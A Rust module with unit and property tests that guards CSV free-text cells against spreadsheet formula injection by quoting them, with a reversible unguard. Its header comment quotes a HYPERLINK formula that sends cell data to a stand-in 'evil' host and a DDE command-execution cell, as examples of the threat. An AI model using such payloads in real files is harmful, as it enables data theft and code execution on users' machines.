//! The CSV formula-injection guard, shared by every CSV writer of the project (`accounts.csv`,
//! `clusters.csv`, `expansion.csv`, and the disclosure's `tweets.csv` / `users.csv`).
//!
//! A spreadsheet opening a CSV treats a cell that starts with `=`, `+`, `-` or `@` (and, in some
//! programs, a tab or a carriage return) as a formula and runs it: a display name
//! `=HYPERLINK("http://evil/?"&A1,"x")` or `=cmd|' /C calc'!A0` becomes code on the analyst's
//! machine. Following the OWASP recommendation ("CSV Injection"), a **free-text** cell that starts
//! with one of those characters is written with a single quote in front (`'=...`), which
//! spreadsheets show as text. Numeric and id columns are never guarded: a negative number stays a
//! number and an id stays the id (ids from the platforms are digits, hex or base64).
//!
//! The guard is reversible: a cell that already starts with a quote followed by a trigger
//! character gets one more quote, so [`unguard`] (remove one leading quote when a trigger
//! character follows it) gives back exactly the original text. Everything in the project that
//! reads these files back reads the free-text columns through [`unguard`].

use std::borrow::Cow;

/// The characters that make a spreadsheet treat a cell as a formula.
pub const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The prefix written in front of a guarded cell.
pub const GUARD: char = '\'';

fn starts_with_trigger(s: &str) -> bool {
    s.starts_with(TRIGGERS)
}

/// True when `cell` must be guarded: it starts with a trigger character, or it already looks
/// guarded (a quote, then a trigger) and needs one more quote to read back unchanged.
pub fn needs_guard(cell: &str) -> bool {
    starts_with_trigger(cell) || cell.strip_prefix(GUARD).is_some_and(looks_guarded)
}

fn looks_guarded(rest: &str) -> bool {
    // `rest` is what follows one quote: guarded text is a trigger or another guarded text.
    starts_with_trigger(rest) || rest.strip_prefix(GUARD).is_some_and(looks_guarded)
}

/// The cell as written to a CSV file: `cell` with a leading `'` when [`needs_guard`].
pub fn guard(cell: &str) -> Cow<'_, str> {
    if needs_guard(cell) {
        let mut s = String::with_capacity(cell.len() + 1);
        s.push(GUARD);
        s.push_str(cell);
        Cow::Owned(s)
    } else {
        Cow::Borrowed(cell)
    }
}

/// The original text of a cell written by [`guard`] (one leading `'` removed when what follows
/// it is guarded text); any other cell is returned unchanged.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix(GUARD) {
        Some(rest) if looks_guarded(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn guards_formula_cells_only() {
        assert_eq!(guard("=1+1"), "'=1+1");
        assert_eq!(guard("+33 6"), "'+33 6");
        assert_eq!(guard("-2"), "'-2");
        assert_eq!(guard("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(guard("\tx"), "'\tx");
        assert_eq!(guard("\rx"), "'\rx");
        assert_eq!(guard("plain"), "plain");
        assert_eq!(guard("a=b"), "a=b");
        assert_eq!(guard(""), "");
        assert_eq!(guard("'quoted"), "'quoted");
        assert_eq!(guard("'=x"), "''=x");
        assert!(matches!(guard("plain"), Cow::Borrowed(_)));
    }

    #[test]
    fn unguard_inverts() {
        for s in ["=1+1", "'=x", "''=x", "'", "''", "'a", "", "-", "'-", "x"] {
            assert_eq!(unguard(&guard(s)), s, "{s:?}");
        }
        assert_eq!(unguard("'=x"), "=x");
        assert_eq!(unguard("'quoted"), "'quoted");
    }

    proptest! {
        #[test]
        fn guard_round_trips_and_never_starts_with_a_trigger(
            s in "['=+@\\-\t\rab ]{0,6}",
        ) {
            let g = guard(&s);
            prop_assert!(!g.starts_with(TRIGGERS), "{:?}", g);
            prop_assert_eq!(unguard(&g), s.as_str());
        }
    }
}
